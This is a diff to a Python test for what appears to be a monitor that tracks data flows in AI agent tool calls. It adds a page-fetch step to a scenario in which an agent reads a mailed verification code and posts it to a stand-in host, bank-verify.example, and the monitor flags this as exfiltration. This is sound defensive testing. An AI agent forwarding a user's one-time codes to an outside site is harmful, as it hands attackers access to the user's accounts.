@@ -229,7 +229,8 @@ def test_a_one_time_code_from_a_mail_is_linked_though_short(prevent: Session) ->
     mail = step(
         "gmail", "read_email", {"id": "m1"}, "Your verification code is 463 820. It expires soon."
     )
-    decisions = play(prevent, [mail, post("the code is 463820", "https://bank-verify.example/")])
+    code = post("the code is 463820", "https://bank-verify.example/")
+    decisions = play(prevent, [fetch_page(), mail, code])
     (flow,) = decisions[-1].flows
     assert flow.flow_class is FlowClass.EXFILTRATION
     assert flow.leaked_bytes == 6
